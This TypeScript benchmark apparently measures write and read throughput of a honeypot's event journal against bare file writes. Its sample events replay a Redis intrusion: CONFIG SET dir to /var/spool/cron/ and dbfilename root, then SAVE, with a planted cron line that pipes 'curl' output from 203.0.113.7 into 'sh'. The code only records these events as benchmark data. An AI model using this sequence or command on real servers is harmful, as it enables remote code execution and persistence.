import {
  closeSync,
  fdatasyncSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Fsync } from '../src/journal/journal.ts';
import { openJournal } from '../src/journal/journal.ts';
import { readJournal } from '../src/journal/reader.ts';
import type { Act } from '../src/model/act.ts';
import { systemClock } from '../src/platform/clock.ts';
import { systemRandom } from '../src/platform/random.ts';

/**
 * How fast the journal takes events from busy sessions, against the bare machine: the same bytes in the same batches
 * with writeSync (and fdatasyncSync as the policy has it), nothing else. `node bench/journal.ts [events] [folder]`.
 */
const events = Number(process.argv[2] ?? 200_000);
const parent = process.argv[3] ?? tmpdir();
/** What sensors hand over in one turn of the event loop. */
const BURST = 256;

/** An attack as sensors record it: a visit, reconnaissance, a cron entry written, settings, a save. */
const visit: readonly Act[] = [
  { type: 'session.opened', protocol: 'redis', local: { address: '192.0.2.10', port: 6379 } },
  command('info', []),
  command('config|get', ['dir']),
  command('set', ['Backup1', cronEntry()]),
  { type: 'redis.value', db: 0, key: 'Backup1', kind: 'string', value: cronEntry(), command: 'set' },
  command('config|set', ['dir', '/var/spool/cron/']),
  { type: 'redis.setting', name: 'dir', value: '/var/spool/cron/', accepted: true },
  command('config|set', ['dbfilename', 'root']),
  { type: 'redis.setting', name: 'dbfilename', value: 'root', accepted: true },
  command('save', []),
  { type: 'redis.save', command: 'save', dir: '/var/spool/cron/', dbfilename: 'root', accepted: true },
  command('set', ['\u0080\u0004\u00ff\u0000bin', '\u0000\u00ff\u00fe\u0001'.repeat(16)]),
  { type: 'session.closed', reason: 'visitor', commands: 8, bytesIn: 900, bytesOut: 4_000, ms: 812 },
];

function command(name: string, args: readonly string[]): Act {
  return { type: 'redis.command', name, args: [...args], db: 0, reply: 'ok' };
}

function cronEntry(): string {
  return '\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n\n';
}

interface Batch {
  readonly bytes: Buffer;
}

async function journalRun(folder: string, fsync: Fsync): Promise<{ ms: number; sizes: number[] }> {
  const journal = await openJournal({ folder, clock: systemClock, random: systemRandom, fsync });
  const sizes: number[] = [];
  journal.onAcknowledged((batch) => sizes.push(batch.length));
  const sessions = Array.from({ length: 50 }, (_, index) =>
    journal.open({
      vantage: 'sensor',
      sensor: 'redis-6379',
      peer: { address: `198.51.100.${index}`, port: 40_000 },
    }),
  );
  const started = performance.now();
  for (let count = 0; count < events; count++) {
    const act = visit[count % visit.length];
    if (act !== undefined) sessions[count % sessions.length]?.emit(act);
    if (count % BURST !== 0) continue;
    if (journal.saturated) await journal.drained();
    else await new Promise((resolve) => setImmediate(resolve));
  }
  await journal.flush();
  const ms = performance.now() - started;
  await journal.close();
  return { ms, sizes };
}

function batchesOf(folder: string, sizes: readonly number[]): Batch[] {
  const names = readdirSync(folder).filter((name) => name.startsWith('events-'));
  const bytes = Buffer.concat(names.map((name) => readFileSync(join(folder, name))));
  let at = 0;
  return sizes.map((size) => {
    const start = at;
    for (let line = 0; line < size; line++) at = bytes.indexOf(10, at) + 1;
    return { bytes: bytes.subarray(start, at) };
  });
}

function bareRun(path: string, batches: readonly Batch[], fsync: Fsync): number {
  const file = openSync(path, 'wx');
  const started = performance.now();
  let synced = started;
  for (const { bytes } of batches) {
    writeSync(file, bytes);
    const due = fsync === 'always' || (fsync === 'second' && performance.now() - synced >= 1_000);
    if (!due) continue;
    fdatasyncSync(file);
    synced = performance.now();
  }
  const ms = performance.now() - started;
  closeSync(file);
  return ms;
}

async function readRun(folder: string): Promise<number> {
  const started = performance.now();
  for await (const _ of readJournal(folder, {}, (damage) => console.error(damage.message))) continue;
  return performance.now() - started;
}

function rate(ms: number): string {
  return Math.round(events / (ms / 1_000))
    .toLocaleString('en')
    .padStart(12);
}

const root = mkdtempSync(join(parent, 'sundew-bench-journal-'));
try {
  await journalRun(join(root, 'warm-up'), 'never');
  console.log(`${events} events, node ${process.version}, ${parent}`);
  console.log('fsync     journal ev/s    bare ev/s   ratio  events/batch  bytes/event   read ev/s');
  for (const fsync of ['never', 'second', 'always'] as const) {
    const folder = join(root, fsync);
    const { ms, sizes } = await journalRun(folder, fsync);
    const batches = batchesOf(folder, sizes);
    const bare = bareRun(join(root, `${fsync}.bare`), batches, fsync);
    const bytes = batches.reduce((sum, batch) => sum + batch.bytes.length, 0);
    const reading = await readRun(folder);
    console.log(
      `${fsync.padEnd(8)} ${rate(ms)} ${rate(bare)}  ${(bare / ms).toFixed(3)} ${(events / sizes.length).toFixed(0).padStart(12)} ${(bytes / events).toFixed(1).padStart(13)} ${rate(reading)}`,
    );
  }
} finally {
  rmSync(root, { recursive: true, force: true });
}
